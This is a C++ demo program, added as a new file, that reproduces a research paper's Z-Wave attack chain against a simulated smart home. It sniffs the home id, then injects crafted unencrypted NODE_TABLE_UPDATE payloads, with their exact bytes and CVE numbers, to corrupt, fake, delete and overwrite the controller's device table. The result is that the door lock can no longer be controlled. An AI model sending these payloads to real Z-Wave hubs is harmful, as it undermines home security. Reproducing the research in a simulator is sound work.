@@ -1,0 +1,95 @@
+// The paper's attack scenario (Fig. 2 and the Fig. 8-11 proof-of-concept
+// chain), replayed step by step against the simulated smart home.
+//
+// An attacker 70 meters outside the house sniffs the S2-protected network,
+// learns the home id, and — without any keys — injects four unencrypted
+// NODE_TABLE_UPDATE payloads that corrupt, fake, delete, and finally
+// overwrite the controller's device database. After each injection the
+// controller's node table ("the PC-controller UI view") is printed.
+#include <cstdio>
+
+#include "core/dongle.h"
+#include "core/scanner.h"
+#include "sim/testbed.h"
+
+namespace {
+
+void show_table(const char* title, const zc::sim::VirtualController& controller) {
+  std::printf("---- %s ----\n%s\n", title, controller.node_table().render().c_str());
+}
+
+}  // namespace
+
+int main() {
+  using namespace zc;
+
+  sim::TestbedConfig config;
+  config.controller_model = sim::DeviceModel::kD6_SamsungWv520;  // SmartThings hub
+  config.attacker_distance_m = 70.0;  // the far end of the paper's range
+  sim::Testbed testbed(config);
+  auto& controller = testbed.controller();
+
+  std::printf("=== Z-Wave smart home under attack (paper Figs. 2, 8-11) ===\n\n");
+  std::printf("home: %s + S2 door lock + legacy switch\n",
+              sim::device_model_name(controller.model()));
+  std::printf("attacker: SDR dongle at %.0f m, no keys, no network membership\n\n",
+              config.attacker_distance_m);
+
+  core::ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
+                           testbed.attacker_radio_config("attacker-dongle"));
+
+  // Step 1 (Fig. 2 (1)): scan all Z-Wave network traffic.
+  core::PassiveScanner passive(dongle);
+  const auto scan = passive.scan(90 * kSecond, /*min_packets=*/4);
+  std::printf("[sniff] home id %08X recovered from %zu packets (S2 hides only the payload)\n\n",
+              scan.home_id.value_or(0), scan.packets_analyzed);
+  const zwave::HomeId home = *scan.home_id;
+
+  show_table("controller memory before the attack", controller);
+
+  auto inject = [&](const char* what, Bytes params) {
+    zwave::AppPayload payload;
+    payload.cmd_class = 0x01;  // proprietary network-management class
+    payload.command = 0x0D;    // NODE_TABLE_UPDATE
+    payload.params = std::move(params);
+    std::printf(">>> inject %s  [payload %s]\n", what,
+                to_hex_spaced(payload.encode()).c_str());
+    dongle.send_app(home, 0xE7, 0x01, payload);
+    dongle.run_for(200 * kMillisecond);
+  };
+
+  // Fig. 8 — bug #01: the S2 smart lock's stored type silently becomes
+  // "routing slave"; its security class evaporates.
+  inject("memory corruption of lock properties (CVE-2024-50929)",
+         {0x00, sim::Testbed::kLockNodeId, 0x00});
+  show_table("after corruption (Fig. 8)", controller);
+
+  // Fig. 9 — bug #02: rogue controllers appear as IDs #10 and #200.
+  inject("rogue controller insertion, node 10 (CVE-2024-50920)", {0x01, 10, 0x00});
+  inject("rogue controller insertion, node 200 (CVE-2024-50920)", {0x01, 200, 0x00});
+  show_table("after rogue insertion (Fig. 9)", controller);
+
+  // Fig. 10 — bug #03: remove the real devices.
+  inject("removal of the smart lock (CVE-2024-50931)",
+         {0x02, sim::Testbed::kLockNodeId, 0x00});
+  inject("removal of the smart switch (CVE-2024-50931)",
+         {0x02, sim::Testbed::kSwitchNodeId, 0x00});
+  show_table("after removal (Fig. 10)", controller);
+
+  // Fig. 11 — bug #04: overwrite the whole database.
+  inject("database overwrite (CVE-2024-50930)", {0x03, 0x00, 0x00});
+  show_table("after database overwrite (Fig. 11)", controller);
+
+  // Fig. 2 (5)/(6): the homeowner tries to lock the door via the app.
+  std::printf("[homeowner] Command:Lock via smartphone app ... ");
+  const bool lock_known = controller.node_table().find(sim::Testbed::kLockNodeId) != nullptr;
+  if (!lock_known || !controller.cloud_control_available()) {
+    std::printf("Command fail! (controller no longer knows the lock)\n");
+  } else {
+    std::printf("ok\n");
+  }
+
+  std::printf("\nground truth: %zu vulnerability triggers recorded by the device\n",
+              controller.triggered().size());
+  return 0;
+}
